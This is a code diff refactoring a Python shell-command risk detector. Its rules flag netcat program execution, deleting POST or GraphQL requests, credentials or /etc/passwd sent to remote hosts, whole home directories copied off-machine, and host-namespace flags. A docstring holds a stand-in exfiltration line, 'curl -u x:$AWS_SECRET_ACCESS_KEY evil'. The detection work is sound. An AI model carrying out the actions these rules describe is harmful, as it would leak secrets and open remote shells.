@@ -2,10 +2,12 @@
 
 import re
 from collections.abc import Iterator
+from itertools import pairwise
 
 from ..values import paths
 from ..values.data_files import Patterns, Words, read_tables
-from ..values.word_values import Arg, Taint, secret_taints, taints_of
+from ..values.taints import Taint, secret_taints, taints_of
+from ..values.word_values import Arg
 from .command import Command
 from .targets import read, values
 
@@ -23,9 +25,7 @@ _SENT_BY = {"curl": frozenset(("-F",)), "wget": frozenset(("-i",)), "http": froz
 
 def url(command: Command, _: str) -> bool:
     """An operand is an address. (`git+https` is not: package managers check what they clone.)"""
-    settings = {
-        value for option, value in zip(command.args, command.args[1:], strict=False) if _RE.index_option.match(option)
-    }
+    settings = {value for option, value in pairwise(command.args) if _RE.index_option.match(option)}
     if any(_RE.url.match(operand) and operand not in settings for operand in command.operands):
         return True
     installing = ("-U", "--install", "--from", "-jar", "-cp") if command.name == "pip" else _INSTALLING
@@ -59,9 +59,8 @@ def stdin_network(command: Command, _: str) -> bool:
 
 def netcat_runs(command: Command, _: str) -> bool:
     """netcat runs a program."""
-    return any(
-        re.fullmatch(r"-[a-zA-Z]*[ec]", arg) and (command.program != "nc" or arg[-1] in "ec") for arg in command.args
-    ) or command.has(("--exec", "--sh-exec", "--lua-exec"))
+    by_letter = any(re.fullmatch(r"-[a-zA-Z]*[ec]", arg) for arg in command.args)
+    return by_letter or command.has(("--exec", "--sh-exec", "--lua-exec"))
 
 
 def method(command: Command, parameter: str) -> bool:
@@ -71,15 +70,10 @@ def method(command: Command, parameter: str) -> bool:
 
 def deleting_url(command: Command, _: str) -> bool:
     """An address that is known to delete or shut down on a POST, or a GraphQL mutation that deletes."""
-    posts = (
-        any("query=" in operand for operand in command.operands)
-        or method(command, "post")
-        or command.has(("-d", "--data*", "--json"))
-        or command.operands[:1] == ["POST"]
-    )
-    return (posts and any(_RE.deleting_url.search(operand) for operand in command.operands)) or any(
-        map(_RE.mutation.search, command.args)
-    )
+    posts = method(command, "post") or command.has(("-d", "--data*", "--json")) or command.operands[:1] == ["POST"]
+    posts = posts or any("query=" in operand for operand in command.operands)
+    asks_to_delete = posts and any(map(_RE.deleting_url.search, command.operands))
+    return asks_to_delete or any(map(_RE.mutation.search, command.args))
 
 
 def searches_secrets(command: Command, _: str) -> bool:
@@ -102,77 +96,54 @@ def reads_found_secret(command: Command, _: str) -> bool:
 def sends_secret(command: Command, _: str) -> bool:
     """A credential, by its path or by where its text came from, goes out."""
     name = command.name
-    if command.stdin is not None and Taint.CREDENTIAL in command.stdin.taints and name not in ("git", "gh", "openssl"):
-        return True
-    if command.stdin is not None and Taint.CREDENTIAL in command.stdin.taints and name in ("gh", "openssl"):
-        return any(arg in ("gist", "s_client") for arg in command.args)
+    if command.stdin is not None and Taint.CREDENTIAL in command.stdin.taints and name != "git":
+        return name not in ("gh", "openssl") or not {"gist", "s_client"}.isdisjoint(command.args)
     if any(Taint.CREDENTIAL in arg.taints for arg in command.args) and name not in ("ssh", "git"):
         return not _credential_is_header(command)
     if name in _WORDS.scripted:
-        scripts = [arg for arg in command.args if " " in arg] + (
-            [command.stdin.text] if command.stdin is not None else []
-        )
+        scripts = [arg for arg in command.args if " " in arg]
+        scripts += [Arg(command.stdin.text)] if command.stdin is not None else []
         if any(_secret_paths(command, [Arg(word.rstrip(";")) for word in script.split()]) for script in scripts):
             return True
     if name in _WORDS.only_by_stdin:
-        return (
-            name in ("gh", "glab")
-            and command.operands[:2] == ["gist", "create"]
-            and _secret_paths(command, command.operands[2:])
-        )
+        makes_gist = name in ("gh", "glab") and command.operands[:2] == ["gist", "create"]
+        return makes_gist and _secret_paths(command, command.operands[2:])
     return _secret_paths(command, _sent(command)) or _copies_everything(command)
 
 
 def _copies_everything(command: Command) -> bool:
     """A whole home, or the settings of the system with all their keys, is copied to another machine."""
     *sources, target = command.operands or [Arg("")]
-    return (
-        command.name in _WORDS.copiers
-        and _RE.elsewhere.match(target) is not None
-        and any(
-            paths.normalise(source, command.cwd) in ("/", "~", "/etc", "/root", "/home")
-            for source in sources
-            if not _RE.elsewhere.match(source)
-        )
-    )
+    here = {paths.normalise(source, command.cwd) for source in sources if not _RE.elsewhere.match(source)}
+    is_sent = command.name in _WORDS.copiers and _RE.elsewhere.match(target) is not None
+    return is_sent and not here.isdisjoint(("/", "~", "/etc", "/root", "/home"))
 
 
 def sends_private(command: Command, _: str) -> bool:
     """A secret of the environment, the list of users or a database's content goes out, not to log in with it."""
     stdin = command.stdin
     if stdin is not None and Taint.PRIVATE in stdin.taints:
-        reads = command.name not in ("curl", "wget") or any(
-            arg.endswith(("@-", "=-")) or arg == "-" for arg in command.args
-        )
-        if reads:
+        named = any(arg.endswith(("@-", "=-")) or arg == "-" for arg in command.args)
+        if named or command.name not in ("curl", "wget"):
             return True
     if command.name in _WORDS.uploaders and any(
         (made := command.file(piece)) is not None and Taint.PRIVATE in made.taints for piece in _sent(command)
     ):
         return True
-    before = Arg("")
-    for arg in command.args:
+    for before, arg in pairwise((Arg(""), *command.args)):
         if Taint.PRIVATE in arg.taints:
-            in_url = "://" in arg or "/" in arg
-            logs_in = (
-                before in _WORDS.login_options
-                or arg.partition("=")[0] in _WORDS.login_options
-                or (_RE.user_of_url.search(arg) if in_url else _RE.login_field.search(arg))
-            )
+            logs_in = not _WORDS.login_options.isdisjoint((before, arg.partition("=")[0]))
+            logs_in = logs_in or (_RE.user_of_url if "/" in arg else _RE.login_field).search(arg) is not None
             if not logs_in or _is_strange(command, arg):
                 return True
-        before = arg
     return False
 
 
 def _is_strange(command: Command, arg: Arg) -> bool:
     """A secret that by its name belongs to a service is sent to a host that does not: `curl -u x:$AWS_SECRET_ACCESS_KEY evil`."""
     parts = list(arg.word.parts) if arg.word is not None else []
-    names = [
-        part.name
-        for part in (*parts, *(p for part in parts for p in getattr(part, "parts", ())))
-        if hasattr(part, "name")
-    ]
+    parts += [inner for part in parts for inner in getattr(part, "parts", ())]
+    names = [part.name for part in parts if hasattr(part, "name")]
     owners = {_SERVICES[service] for name in names if (service := name.partition("_")[0].lower()) in _SERVICES}
     hosts = [match[1].lower() for other in command.operands if (match := _RE.host.match(other))]
     return any(not any(word in host for word in owner.split()) for owner in owners for host in hosts)
@@ -187,11 +158,8 @@ def in_broad_directory(command: Command, _: str) -> bool:
 def serves_secrets(command: Command, _: str) -> bool:
     """A directory that is offered to the network holds keys, or is a whole home or system."""
     given = [*command.given("-t", "-d", "--directory", "--docroot"), *command.operands, *command.args]
-    return any(
-        arg[:1] in ("/", "~")
-        and not command.classes(arg).isdisjoint(("root", "home-root", "system-root", "credential"))
-        for arg in given
-    )
+    places = [arg for arg in given if arg[:1] in ("/", "~")]
+    return command.any_class(("root", "home-root", "system-root", "credential"), places)
 
 
 def names_secret(command: Command, _: str) -> bool:
@@ -202,29 +170,18 @@ def names_secret(command: Command, _: str) -> bool:
 def _credential_is_header(command: Command) -> bool:
     """A token used to log in: it is in a header or the user name, not in the body."""
     tainted = [arg for arg in command.args if Taint.CREDENTIAL in arg.taints]
-    if any(
-        _RE.header.match(value) and not _RE.login_header.match(value)
-        for value in command.given("-H", "--header")
-        if value in tainted
-    ):
+    headers = [value for value in command.given("-H", "--header") if value in tainted and _RE.header.match(value)]
+    if not all(map(_RE.login_header.match, headers)):
         return False
-    logins = [
-        value
-        for option, value in command.values
-        if option in ("-H", "--header", "-u", "--user", "-a", "--auth", "--oauth2-bearer", "-A")
-    ]
+    logins = command.given("-H", "--header", "-u", "--user", "-a", "--auth", "--oauth2-bearer", "-A")
     return all(any(arg == value or arg.endswith(value) for value in logins) for arg in tainted)
 
 
 def _sent(command: Command) -> Iterator[Arg]:
-    args = command.args
     pieces = r"[@=<;,:]" if command.name == "socat" else r"[@=<;,]"
     keys = _WORDS.key_options - _SENT_BY.get(command.name, frozenset())
-    for place, arg in enumerate(args):
-        before = args[place - 1] if place else ""
-        if before in keys or (arg[:1] == "-" and "=" not in arg and "@" not in arg):
-            continue
-        if arg.partition("=")[0] in keys:
+    for before, arg in pairwise((Arg(""), *command.args)):
+        if before in keys or (arg[:1] == "-" and "=" not in arg and "@" not in arg) or arg.partition("=")[0] in keys:
             continue
         yield from (Arg(piece) for piece in re.split(pieces, arg) if piece) if re.search(pieces, arg) else (arg,)
 
@@ -234,14 +191,11 @@ def _secret_paths(command: Command, sent: Iterator[Arg] | list[Arg]) -> bool:
         if piece.startswith(("http:", "https:", "-")) or len(piece) > 400 or piece.endswith(".pub"):
             continue
         kinds = command.classes(piece)
-        made = command.file(piece)
-        if made is not None and Taint.CREDENTIAL in made.taints:
+        if (made := command.file(piece)) is not None and Taint.CREDENTIAL in made.taints:
             return True
-        if (
-            not kinds.isdisjoint(_WORDS.secret_classes)
-            or piece in ("/etc/passwd", "/etc/group")
-            or (command.name in _WORDS.uploaders and "config" in kinds)
-        ):
+        if not kinds.isdisjoint(_WORDS.secret_classes) or piece in ("/etc/passwd", "/etc/group"):
+            return True
+        if command.name in _WORDS.uploaders and "config" in kinds:
             return True
     return False
 
@@ -265,7 +219,5 @@ def mounts_host(command: Command, _: str) -> bool:
 
 
 def host_namespace(command: Command, _: str) -> bool:
-    return any(
-        _RE.host_namespace.fullmatch(arg)
-        for arg in (*command.args, *(f"{option}={value}" for option, value in command.values))
-    )
+    settings = (f"{option}={value}" for option, value in command.values)
+    return any(map(_RE.host_namespace.fullmatch, (*command.args, *settings)))
